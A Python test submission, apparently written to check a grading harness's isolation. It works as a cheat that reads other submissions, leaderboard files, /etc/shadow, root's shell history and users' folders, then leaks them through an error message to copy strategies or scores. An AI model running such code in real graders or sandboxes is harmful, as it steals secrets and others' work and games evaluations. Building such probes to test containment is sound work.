"""Escape: read what is not this run's own (the other submissions beside this file and in the project,
the grader's results, the system's account files, the users' folders) and leak it in its error text: a
classmate's strategy to copy, another row's score. When it finds nothing it runs its honest step."""
TWIN = "honest"  # the honest strategy this cheat must not rank above
import json
import hashlib
import os
import pathlib
import sys
import time

import pathlib as _p, sys as _s  # noqa: E401 - the shared honest step, beside this file
_s.path.insert(0, str(_p.Path(__file__).parent))
import _base  # noqa: E402
MARK = "READ_OUTSIDE"
# files of the system and of its users that are readable to many (/etc/shadow to its owner only)
FILES = ("/etc/passwd", "/etc/group", "/etc/hostname", "/etc/hosts", "/etc/shadow", "/root/.bashrc",
         "/root/.profile", "/root/.bash_history")
FOLDERS = ("/home", "/root", "/work", "/srv", "/mnt", "/opt", "/var", "/media")
RESULTS = ("results.jsonl", "leaderboard.json", "leaderboard.csv")


def _read(path: pathlib.Path) -> str | None:
    try:
        with open(path, "rb") as fh:
            return fh.read(60).decode(errors="replace")
    except OSError:
        return None


def _walk(top: pathlib.Path, skip: set[str], found: list[str], budget: list[float]) -> None:
    """The grader's results and other strategy files under `top`, within a budget of entries and time."""
    for folder, dirs, files in os.walk(top):
        dirs[:] = [d for d in dirs if os.path.join(folder, d) not in skip]
        budget[0] -= len(dirs) + len(files)
        if budget[0] < 0 or time.monotonic() > budget[1]:
            return
        for name in files:
            path = os.path.join(folder, name)
            if (name in RESULTS or (name.startswith("honest") and name.endswith(".py"))) and path not in found \
                    and _read(pathlib.Path(path)) is not None:
                found.append(path)


def spy() -> dict[str, object]:
    """What it could read beyond its own file and helpers: its classmates beside it (names, and the start
    of one), other files by path, folder listings, and results and strategy files found by walking."""
    import dist_lib
    here = pathlib.Path(__file__).resolve()
    project = pathlib.Path(dist_lib.__file__).resolve().parents[1]
    classmates = [p for p in sorted(here.parent.iterdir())
                  if p != here and not p.name.startswith("_") and _read(p) is not None]
    files = [str(p) for p in [project / "tests" / "submissions" / "honest.py", project / "README.md",
                              project / ".git" / "HEAD", *map(pathlib.Path, FILES)] if _read(p) is not None]
    own = [pathlib.Path(p).resolve() for p in (sys.prefix, sys.base_prefix, project)]  # what it runs from
    folders = {}
    for folder in FOLDERS:  # whatever a listing shows beyond the way to those
        try:
            names = sorted(n for n in os.listdir(folder)
                           if not any(pathlib.Path(folder, n) in (p, *p.parents) for p in own))
        except OSError:
            continue
        if names:
            folders[folder] = names[:3]
    found: list[str] = []
    skip = {"/proc", "/sys", "/dev", "/usr", sys.prefix, sys.base_prefix, str(project / ".git")}
    budget = [200_000.0, time.monotonic() + 3]
    for top in (project / "traces", pathlib.Path.cwd(), pathlib.Path("/")):
        _walk(top, skip, found, budget)
    report = {"files": files, "found": [p for p in found if not pathlib.Path(p).name.startswith("_")][:5],
              "copied": _read(classmates[0]) if classmates else None, "folders": folders,
              # the classmates as a count and a digest of their sorted names, the first by name: a class of
              # any size fits the grader's cap on error text
              "classmates": len(classmates), "first": classmates[0].name if classmates else None,
              "names_sha256": classmates and hashlib.sha256("\n".join(p.name for p in classmates).encode()).hexdigest()[:16]}
    return {key: value for key, value in report.items() if value}


async def train(model):
    if model.rank == 0:
        found = spy()
        if found:
            raise RuntimeError(MARK + json.dumps(found))
    await _base.train(model)
